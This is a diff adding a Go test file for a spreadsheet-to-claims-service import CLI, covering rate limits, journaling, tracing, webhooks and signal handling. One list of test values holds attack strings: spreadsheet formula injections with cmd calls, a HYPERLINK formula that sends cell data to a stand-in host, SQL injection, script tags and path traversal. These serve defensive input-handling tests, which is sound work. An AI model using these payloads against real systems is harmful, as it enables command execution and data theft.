@@ -1,0 +1,532 @@
+package cli_test
+
+import (
+	"encoding/json"
+	"fmt"
+	"net/http"
+	"os"
+	"os/signal"
+	"path/filepath"
+	"regexp"
+	"runtime"
+	"slices"
+	"strings"
+	"sync"
+	"sync/atomic"
+	"syscall"
+	"testing"
+	"time"
+
+	"github.com/google/go-cmp/cmp"
+	"github.com/xuri/excelize/v2"
+
+	"claimsheet/apiclient/apitest"
+	"claimsheet/importer/testform"
+)
+
+// TestRateOverrides: --rate and --concurrency win over the environment's limits.
+func TestRateOverrides(t *testing.T) {
+	t.Parallel()
+	s := newScene(t, "name: a\napi: v2\n"+clientPart, leads(8))
+	s.environment("limits: {requests_per_second: 0.001, concurrency: 1}")
+	var mu sync.Mutex
+	var at []time.Time
+	s.service.Play(func(apitest.Call) apitest.Fault {
+		mu.Lock()
+		defer mu.Unlock()
+		at = append(at, time.Now())
+		return apitest.Fault{Delay: 100 * time.Millisecond}
+	})
+	p := s.mustRun(0, "--rate", "50", "--concurrency", "8", "--accept", "new-ledger")
+	together := false
+	for i, c := range p.calls[1:] {
+		together = together || c.Arrived < p.calls[i].Ended
+	}
+	if took := at[len(at)-1].Sub(at[0]); took < time.Duration(len(at)-2)*20*time.Millisecond || !together {
+		t.Errorf("%d requests in %v: more than 50 a second, or one after the other", len(at), took)
+	}
+}
+
+// TestDryRunLeavesNothing: a dry run writes a plan and no other file, and refuses to write it over results.
+func TestDryRunLeavesNothing(t *testing.T) {
+	s := newScene(t, stepThree, leads(2))
+	scratch := t.TempDir()
+	t.Setenv("TMPDIR", scratch)
+	s.mustRun(0, "--dry-run")
+	if left, err := os.ReadDir(scratch); err != nil || len(left) > 0 {
+		t.Errorf("the dry run leaves %v in the temporary folder (error %v)", left, err)
+	}
+	if diff := cmp.Diff([]string{"environments.yaml", "leads.plan.xlsx", "leads.xlsx", "mapping.yaml"}, names(t, s.dir)); diff != "" {
+		t.Errorf("files (-want +got):\n%s", diff)
+	}
+	s.mustRun(0)
+	s.mustRun(2, "--dry-run", "-o", s.path("leads.results.xlsx"))
+}
+
+// TestContactOfTheEnvironment says what is wrong with the place of a contact's id, before anything is sent.
+func TestContactOfTheEnvironment(t *testing.T) {
+	t.Parallel()
+	s := newScene(t, joint, nil)
+	writeSheet(t, s.path(s.input), []any{"E-mail", "First name", "Agreement no", "Partner", "Partner name"}, [][]any{{"a@example.com", "Ann", "A-1"}})
+	for text, want := range map[string]string{"": "is empty", "two words": "not one word", strings.Repeat("x", 300): "too long for an id",
+		"contact-7": "is not an id of the service", "00000000-0000-0000-0000-000000000000": "stands for no id"} {
+		write(t, s.path("broker"), text)
+		p := s.run()
+		if p.code != 2 || len(p.posts()) > 0 || !strings.Contains(p.err, want) || !strings.Contains(p.err, "mapping.yaml:16:") || text != "" && strings.Contains(p.err, text) {
+			t.Errorf("%q: exit code %d, want %q\n%s", text, p.code, want, p.err)
+		}
+	}
+	must(t, os.Remove(s.path("broker")))
+	if p := s.run(); p.code != 2 || !strings.Contains(p.err, "[contact-id]") {
+		t.Errorf("without the file: exit code %d\n%s", p.code, p.err)
+	}
+}
+
+// TestLedgerLostUnderARun takes the ledger away while a request is in flight: the run sends nothing more, its id goes
+// to the journal, and the next run takes it up and does the rest. Nothing is created twice.
+func TestLedgerLostUnderARun(t *testing.T) {
+	t.Parallel()
+	s := newScene(t, creating, leads(2))
+	path := s.path(".claimsheet/ledger.db")
+	s.service.Play(apitest.Once(onStep("client c1@example.com"), apitest.Fault{Then: func() {
+		if err := os.Rename(path, path+".away"); err != nil {
+			t.Error(err)
+		}
+	}}))
+	p := s.mustRun(3, "--concurrency", "1")
+	if posts := p.posts(); posts["client"] != 1 || len(posts) != 1 {
+		t.Errorf("%v were sent, want one client", posts)
+	}
+	s.service.Play(nil)
+	if said := p.err; !strings.Contains(said, `client created, id "`+s.service.Created()["client c1@example.com"][0].ID+`"`) || strings.Contains(said, "c1@example.com") {
+		t.Errorf("stderr is %q, want the id and no key", said)
+	}
+	must(t, os.Rename(path+".away", path))
+	for range 2 { // a dry run changes nothing
+		if p := s.mustRun(3, "--dry-run"); !strings.Contains(p.err, "1 outcomes in the journal") {
+			t.Errorf("stderr is %q, want it to tell of the outcome to be taken up", p.err)
+		}
+	}
+	if p := s.mustRun(0); !strings.Contains(p.err, "had to keep in its journal: 1") {
+		t.Errorf("stderr is %q, want it to tell of the outcome taken up", p.err)
+	}
+	s.mustRun(0, "--dry-run")
+	s.mustRun(0)
+	s.checkMadeOnce()
+	if made, left := s.service.Created(), s.glob(".claimsheet/*.outcomes"); len(made) != 4 || len(left) > 0 {
+		t.Errorf("%v were created, and the journals %v are left", made, left)
+	}
+}
+
+// halfDone is a scene with results in which a person has corrected the amount of the third client. It is not known
+// whether the claim of the fourth was created.
+func halfDone(t *testing.T) *scene {
+	t.Helper()
+	rows := leads(4)
+	rows[2][7] = "ask"
+	s := newScene(t, stepThree, rows)
+	s.service.Play(apitest.Once(onStep("claim c4@example.com/Loan A-4"), apitest.CreateThenDrop()))
+	s.mustRun(4)
+	editWorkbook(t, s.path(s.book()), func(f *excelize.File) { set(t, f, "Amount", 4, 250.25) })
+	return s
+}
+
+func (s *scene) glob(pattern string) []string {
+	s.t.Helper()
+	found, err := filepath.Glob(s.path(pattern))
+	must(s.t, err)
+	return found
+}
+
+const libreOfficeMapping = `
+name: loans
+api: v2
+client:
+  key: E-mail
+  lookup: {email: E-mail}
+  fields: {email: {column: E-mail, type: Email}, lastName: Name}
+claims: [{id: loan, key: Agreement no, name: "Loan {Agreement no}"}]
+workflow: {name: Loans, template_identifier: WF-LOANS}
+activities:
+  - {template: Your details, attributes: {Date of birth: Signed, Consent to contact: Opt in}}
+  - {template: Agreement details, on: loan, attributes: {Agreement number: Agreement no, Amount: Amount}}
+  - {template: Sign your claim, status: Open}
+`
+
+// TestRerunLibreOfficeWorkbook runs a results workbook again that LibreOffice has written (soffice --convert-to xlsx), in
+// a folder without its ledger. It is of a run into the sandbox of four leads from row 4 of a workbook that counts days from
+// 1904; a person has corrected the amount of the third, sorted, filtered, and moved columns.
+func TestRerunLibreOfficeWorkbook(t *testing.T) {
+	t.Parallel()
+	const golden = "testdata/edited-in-libreoffice.xlsx"
+	data, err := os.ReadFile(golden)
+	must(t, err)
+	dir := t.TempDir()
+	mapping, results := filepath.Join(dir, "mapping.yaml"), filepath.Join(dir, "leads.results.xlsx")
+	write(t, mapping, libreOfficeMapping)
+	must(t, os.WriteFile(results, data, 0o600))
+	before := byClient(t, results)
+
+	p := claimsheet(t, "rerun", "--json", "--yes", "-m", mapping, "-e", "sandbox", results)
+	if p.code != 0 || p.summary.Rows.Done != 1 || p.summary.Rows.Unchanged != 3 {
+		t.Fatalf("exit code %d, rows %+v\n%s", p.code, p.summary.Rows, p.err)
+	}
+	if r := p.summary.Requests; r.Client != 1 || r.Claim != 1 || r.Activity != 3 || r.Link != 1 {
+		t.Errorf("requests %+v, want those of one client", r)
+	}
+	after := byClient(t, results)
+	for email, now := range after {
+		headers := []string{"Agreement no", "Signed", "Opt in", "Source row", "claimIds", "redirectUrl"}
+		if email == "c3@example.com" {
+			headers = headers[:4]
+		}
+		for _, header := range headers {
+			if then := before[email][header]; now[header] != then || then == "" {
+				t.Errorf("%s: %s was %q and is now %q", email, header, then, now[header])
+			}
+		}
+	}
+	if no := after["c3@example.com"]["Agreement no"]; no != "00903" {
+		t.Errorf("the agreement number is shown as %s", no)
+	}
+}
+
+// byClient are the results by e-mail and header.
+func byClient(t *testing.T, path string) map[string]record {
+	t.Helper()
+	all := map[string]record{}
+	for _, line := range readSheet(t, path, "Results") {
+		all[line["E-mail"]] = line
+	}
+	return all
+}
+
+func readText(t testing.TB, path string) string {
+	t.Helper()
+	data, err := os.ReadFile(path)
+	must(t, err)
+	return string(data)
+}
+
+var (
+	runID    = regexp.MustCompile(`[ {,]"?run"?[=:]"?[0-9a-f]{8}-[0-9a-f-]{27}"?[ ,}\n]`)
+	textLine = regexp.MustCompile(`^time=\S+ level=(INFO|WARN|ERROR) msg=(\S+|".*") run=`)
+)
+
+// checkLines checks that a log is one record a line, each with the run's id, and that it ends with the exit code.
+func checkLines(t *testing.T, format, log string, code int) {
+	t.Helper()
+	lines := slices.Collect(strings.Lines(log))
+	for _, line := range lines {
+		if !runID.MatchString(line) || format == "json" && !json.Valid([]byte(line)) || format == "text" && !textLine.MatchString(line) {
+			t.Errorf("this is no line of %s, or has no run id: %s", format, line)
+		}
+	}
+	want := map[string]string{"text": fmt.Sprintf("exitCode=%d ", code), "json": fmt.Sprintf(`"exitCode":%d,`, code)}[format]
+	if last := append([]string{""}, lines...)[len(lines)]; !strings.Contains(last, "run ended") || !strings.Contains(last, want) {
+		t.Errorf("the log does not end with %s: %s", want, last)
+	}
+}
+
+// traceLine is a line of a trace, as docs/operations.md explains it.
+type traceLine struct {
+	Run, Kind, Method, Path, RequestID string
+	Sheet, Row, Status                 int
+	MS                                 map[string]float64
+}
+
+// TestTraceOfARun: every request of a run is a line that leads to the row and to the service's own log. TestP3_Canaries
+// shows that no line has anything of the sheet, a secret or a redirect url.
+func TestTraceOfARun(t *testing.T) {
+	t.Parallel()
+	s := newScene(t, stepThree, leads(2))
+	s.service.Play(apitest.Once(func(c apitest.Call) bool { return c.Kind == "claim" }, apitest.Busy(429, 0)))
+	p := s.mustRun(0, "--trace", s.path("trace.jsonl"))
+	text := readText(t, s.path("trace.jsonl"))
+	lines := slices.Collect(strings.Lines(text))
+	ids := map[string]apitest.Call{}
+	for _, c := range p.calls {
+		ids[c.Header.Get("X-Request-Id")] = c
+	}
+	if len(lines) != len(p.calls) {
+		t.Errorf("%d lines for %d requests", len(lines), len(p.calls))
+	}
+	for _, text := range lines {
+		var line traceLine
+		must(t, json.Unmarshal([]byte(text), &line))
+		c, ok := ids[line.RequestID]
+		if !ok || c.Method != line.Method || c.Kind != line.Kind || c.Status != line.Status || line.Run != p.summary.Run || !strings.Contains(c.Header.Get("User-Agent"), line.Run) || line.MS["whole"] <= 0 {
+			t.Errorf("no request is as the line says: %+v", line)
+		}
+		if row := map[string]int{"c1@example.com": 2, "c2@example.com": 3}[c.Client]; row != 0 && (line.Row != row || line.Sheet != 1) {
+			t.Errorf("the row of %s is %d: %+v", c.Client, row, line)
+		}
+	}
+	if p := s.run("--trace", s.path("trace.jsonl")); p.code != 2 || len(p.calls) > 0 || readText(t, s.path("trace.jsonl")) != text {
+		t.Errorf("an earlier trace: exit code %d, %d requests\n%s", p.code, len(p.calls), p.err)
+	}
+}
+
+// TestC2_HostileCells sends a sheet with hostile texts in the addresses of its clients. What arrives at the service is
+// to the letter what the cell says, or the row is invalid; every row is accounted for once, and stderr has no text of a cell.
+func TestC2_HostileCells(t *testing.T) {
+	t.Parallel()
+	const canary = "s3cr3t"
+	var rows [][]any
+	for n, text := range hostileTexts {
+		row := lead(n+1, fmt.Sprint("A-", n+1))
+		row[1], row[4] = canary+"\u202e", text.stored
+		rows = append(rows, row)
+	}
+	s := newScene(t, stepThree, rows)
+	p := s.mustRun(1, "--max-failures", "100%")
+	for _, bad := range []string{"panic", "goroutine ", canary, "\x1b", "\u202e", "\x00", "evil"} {
+		if strings.Contains(p.err, bad) {
+			t.Errorf("stderr holds %q:\n%s", bad, p.err)
+		}
+	}
+	if r := p.summary.Rows; r.Total != len(rows) || r.Done+r.Invalid != len(rows) || r.Invalid == 0 {
+		t.Errorf("%d rows came to %+v", len(rows), r)
+	}
+	arrived := map[string]string{}
+	for _, call := range p.calls {
+		if call.Kind != "activity" || !strings.Contains(call.Body, reference[0].Attributes[0].ID) {
+			continue
+		}
+		var body struct {
+			Attributes []struct{ TemplateID, StringValue string }
+		}
+		must(t, json.Unmarshal([]byte(call.Body), &body))
+		for _, a := range body.Attributes {
+			if a.TemplateID == reference[0].Attributes[1].ID {
+				arrived[call.Client] = a.StringValue
+			}
+		}
+	}
+	for i, row := range s.results() {
+		text := hostileTexts[i]
+		if got := arrived[row["E-mail"]]; got != text.arrives || (row["Import status"] == "invalid") != (row["Error"] != "") {
+			t.Errorf("%q arrived as %q, want %q; its row is %q: %s", text.stored, got, text.arrives, row["Import status"], row["Error"])
+		}
+	}
+	s.checkMadeOnce()
+}
+
+// TestHostileCellTooLong: a text of 40,000 characters is more than a cell can hold. The workbook is refused, and
+// nothing is sent.
+func TestHostileCellTooLong(t *testing.T) {
+	t.Parallel()
+	row := lead(1, "A-1")
+	row[4] = strings.Repeat("x", 40_000)
+	s := newScene(t, stepThree, [][]any{row})
+	if p := s.mustRun(2); !strings.Contains(p.err, s.path("leads.xlsx")+": ") || !strings.Contains(p.err, "32,767") || len(p.posts()) > 0 {
+		t.Errorf("stderr %q, sent %v", p.err, p.posts())
+	}
+}
+
+// hostileText is a text as the file holds it and as it must arrive; "" where it must be refused or is nothing.
+type hostileText struct{ stored, arrives string }
+
+func same(s string) hostileText { return hostileText{s, s} }
+
+// hostileTexts are what people, programs and attackers put into text cells.
+var hostileTexts = []hostileText{
+	same("1 High Street"), same("=1+1"), same("=cmd|' /C evil'!A0"), same("+1+cmd|evil"), same("-1+1"), same("@SUM(1+1)*cmd|evil"),
+	same("=HYPERLINK(\"http://evil.test?x=\"&A1,\"click\")"), same("{{.Env}}"), same("${HOME}"), same("$(evil)"), same("`evil`"), same("%s%n%d"), same(`"},{"x":"`),
+	same("\\\"},{\\\"x\\\":\\\""), same("</t></is></c><evil/>"), same("<script>evil()</script>"), same("'; DROP TABLE steps;--"), same("../../etc/evil"),
+	same("{E-mail}"), same("{{E-mail}}"), same("E-mail | Name"), same("null"), same("true"), same("NaN"), same("00123"), same("1E5"), same("#N/A"),
+	same("a\tb"), {"line one\r\nline two", "line one\nline two"}, {"line one\rline two", "line one\nline two"}, same("line one\nline two"),
+	same("Zo\u00eb"), same("Zoe\u0308"), same("a\u200bb"), same("a\u202eb\u202c"), same("\u2066a\u2069b"), same("👩\u200d👩\u200d👧"), same("ﷺ"), same("\U0001F4A9 \U000E0001x"),
+	{"  spaced out \u00a0", "spaced out"}, {"\u200bzero\u2060", "zero"}, {"_x0041_BC", "ABC"}, {"_x005F_x0041_", "_x0041_"},
+	{"NUL_x0000_here", ""}, {"ESC_x001B_[31mred", ""}, {"BEL_x0007_", ""}, {"lost\ufffdcharacter", ""}, {"\u200b", ""}, {"   ", ""}, {"DEL\u007f", ""}, {"C1\u0085x", ""},
+}
+
+const trackingEntry = `tracking:
+  webhook: {path: /hook, header: X-Token, token: "file:token", id: /id, kind: /type, client_id: /contact, claim_id: /claim, activity: /activity, time: /at}
+  export: {client_id: /Contact, activity: /Step, status: /State, time: /When}
+  completed: {kinds: [completed]}
+`
+
+// TestTracking: what the service posts and what its operator exports stands in the sheet Progress and in the history,
+// whatever arrives twice or out of order, and no step is changed by it.
+func TestTracking(t *testing.T) {
+	t.Parallel()
+	s := newScene(t, stepThree, leads(2))
+	s.environment(trackingEntry)
+	write(t, s.path("token"), "sesame")
+	s.mustRun(0)
+	before := s.results()
+	steps := s.steps()
+	ann, bob := before[0]["contactId"], before[1]["contactId"]
+
+	b := inBackground(t, s.pace, "listen", "-m", s.path("mapping.yaml"), "--addr", "127.0.0.1:0")
+	hook := b.line(&b.out, "")
+	event := func(id, kind, contact, activity, at string) string {
+		return fmt.Sprintf(`{"id":%q,"type":%q,"contact":%q,"activity":%q,"at":%q,"name":"Ann"}`, id, kind, contact, activity, at)
+	}
+	for _, post := range []struct {
+		token, body string
+		want        int
+	}{
+		{"guess", event("1", "completed", ann, "Sign your claim", "2026-04-01T10:00:00Z"), 401},
+		{"sesame", event("1", "completed", ann, "Sign your claim", "2026-04-01T10:00:00Z"), 204},
+		{"sesame", event("1", "completed", ann, "Sign your claim", "2026-04-01T10:00:00Z"), 204}, // again
+		{"sesame", event("0", "opened", ann, "Sign your claim", "2026-04-01T09:00:00Z"), 204},    // out of order
+		{"sesame", event("2", "completed", "nobody", "Sign your claim", "2026-04-01T10:00:00Z"), 204},
+		{"sesame", `{"id":"3"}`, 204}, // about nobody,
+		{"sesame", "{", 422},
+	} {
+		r, err := http.NewRequest(http.MethodPost, hook, strings.NewReader(post.body))
+		must(t, err)
+		r.Header.Set("X-Token", post.token)
+		answer, err := http.DefaultClient.Do(r)
+		must(t, err)
+		if answer.Body.Close(); answer.StatusCode != post.want {
+			t.Errorf("%s: HTTP %d, want %d", post.body, answer.StatusCode, post.want)
+		}
+	}
+
+	p := s.mustRun(0)
+	if p.summary.Requests.Client+p.summary.Requests.Activity+p.summary.Requests.Link > 0 {
+		t.Errorf("events made the run send %+v", p.summary.Requests)
+	}
+	if !strings.Contains(p.err, "new events: 2; 1 already recorded; 1 with ids that the ledger does not know are kept") {
+		t.Errorf("the run does not say what it recorded:\n%s", p.err)
+	}
+	want := []map[string]string{{"Client key": "c1@example.com", "Activity": "Sign your claim", "Sent as": "Open", "State": "completed",
+		"Completed": "2026-04-01T10:00:00", "Last event": "completed", "When": "2026-04-01T10:00:00"}}
+	s.expectProgress("leads.results.xlsx", want)
+
+	// An export says what the webhook missed, and more than once.
+	write(t, s.path("export.csv"), "Contact,Step,State,When\n"+bob+",Sign your claim,Open,2026-04-02T08:00:00Z\n")
+	for _, want := range []string{"new events: 1\n", "new events: 0; 1 already recorded\n"} {
+		if said := s.must(0, "track", "--import", s.path("export.csv")); said != want {
+			t.Errorf("it says %q, want %q", said, want)
+		}
+	}
+	s.report()
+	s.expectProgress("again.xlsx", append(want, map[string]string{"Client key": "c2@example.com", "Activity": "Sign your claim", "Sent as": "Open", "State": "open",
+		"Last event": "Open", "When": "2026-04-02T08:00:00"}))
+	expect(t, s.must(0, "history", "c1@example.com"), "completed  by the service, Sign your claim, completed")
+	if diff := cmp.Diff(steps, s.steps()); diff != "" {
+		t.Errorf("events changed steps (-before +after):\n%s", diff)
+	}
+	// What people's data the service sends is nowhere.
+	must(t, filepath.WalkDir(s.path(".claimsheet"), func(path string, entry os.DirEntry, err error) error {
+		if err != nil || entry.IsDir() || !strings.Contains(path, "tracking") {
+			return err
+		}
+		t.Errorf("%s is left", path)
+		return nil
+	}))
+}
+
+func (s *scene) expectProgress(file string, want []map[string]string) {
+	s.t.Helper()
+	var got []map[string]string
+	for _, r := range s.workbook(file, "Progress") {
+		line := map[string]string{}
+		for name, text := range r {
+			if text != "" {
+				line[name] = text
+			}
+		}
+		got = append(got, line)
+	}
+	if diff := cmp.Diff(want, got); diff != "" {
+		s.t.Errorf("Progress of %s (-want +got):\n%s", file, diff)
+	}
+}
+
+// TestTerminated sends SIGTERM, or SIGHUP as a terminal that is closed does, in the middle of runs: what is in flight is finished and recorded, the workbook is
+// written, nothing is uncertain, and the next run goes on from there.
+func TestTerminated(t *testing.T) {
+	t.Parallel()
+	if runtime.GOOS == "windows" {
+		t.Skip("Windows has no SIGTERM")
+	}
+	rng := seeded(t, 1)
+	for i := range testform.LongOr(20, 1) {
+		by := syscall.SIGTERM
+		if i%2 == 1 && !signal.Ignored(syscall.SIGHUP) { // under nohup the program ignores it as these tests do
+			by = syscall.SIGHUP
+		}
+		s := newScene(t, stepThree, leads(12))
+		p := child(programName, s.args("--concurrency", "4"))
+		posts, later := 1+rng.Int64N(70), time.Duration(rng.IntN(3000))*time.Microsecond
+		var seen atomic.Int64
+		s.service.Play(func(c apitest.Call) apitest.Fault {
+			if c.Method != "GET" && seen.Add(1) == posts {
+				time.AfterFunc(later, func() { p.signal(by) })
+			}
+			return apitest.Fault{Delay: 2 * time.Millisecond}
+		})
+		if code, said := p.end(t); code != 143 && code != 0 {
+			t.Errorf("exit code %d, want 143 or, at the very end, 0\n%s", code, said)
+		}
+		for _, step := range s.steps() {
+			if state := step["State"]; state == "uncertain" || state == "sent" {
+				t.Errorf("after SIGTERM the step %s of %s is %q", step["Step"], step["Client key"], state)
+			}
+		}
+		s.service.Play(nil)
+		s.mustRun(0)
+		s.checkPromise()
+	}
+}
+
+// TestInterruptedTwice interrupts a run whose requests are not answered, and then once more: it ends at once. What was
+// answered is recorded, what was in flight is uncertain, nothing is sent again.
+func TestInterruptedTwice(t *testing.T) {
+	t.Parallel()
+	onlyLong(t)
+	if runtime.GOOS == "windows" {
+		t.Skip("Windows sends no SIGINT to a process")
+	}
+	s := newScene(t, stepThree, leads(12))
+	const answered = 15 // POSTs; all later ones are held back until they are released
+	var posts atomic.Int64
+	held := make(chan struct{})
+	s.service.Play(func(c apitest.Call) apitest.Fault {
+		if c.Method != "GET" && posts.Add(1) > answered {
+			return apitest.Fault{Until: held, Delay: 20 * time.Millisecond} // when they are released, a signal comes before the end
+		}
+		return apitest.Fault{}
+	})
+	p := child(programName, s.args("--concurrency", "4"))
+	p.start(t)
+	t.Cleanup(p.kill)
+	s.waitFor("the requests in flight", func() bool { return posts.Load() == answered+workers })
+	ended := make(chan struct{})
+	go func() { p.end(t); close(ended) }()
+	p.signal(os.Interrupt)
+	select {
+	case <-ended:
+		t.Fatalf("the first signal ended the run with requests in flight\n%s", p.said.String())
+	case <-time.After(300 * time.Millisecond):
+	}
+	for over := false; !over; { // a signal that comes before the first one was dealt with is the same one
+		p.signal(os.Interrupt)
+		select {
+		case <-ended:
+			over = true
+		case <-time.After(100 * time.Millisecond):
+		}
+	}
+	if status, ok := p.ProcessState.Sys().(syscall.WaitStatus); !ok || status.Signal() != syscall.SIGINT {
+		t.Errorf("the process ended with %s, want by the signal, which shells show as 130", p.ProcessState)
+	}
+	close(held)
+	s.settleDown()
+	s.service.Play(nil)
+	s.mustRun(4)
+	for step, n := range s.asked() {
+		if n > 1 {
+			t.Errorf("%s was sent %d times", step, n)
+		}
+	}
+	if n := len(s.uncertain()); n == 0 || n > workers {
+		t.Errorf("%d steps are uncertain, want some and no more than the %d in flight", n, workers)
+	}
+	s.checkPromise()
+}
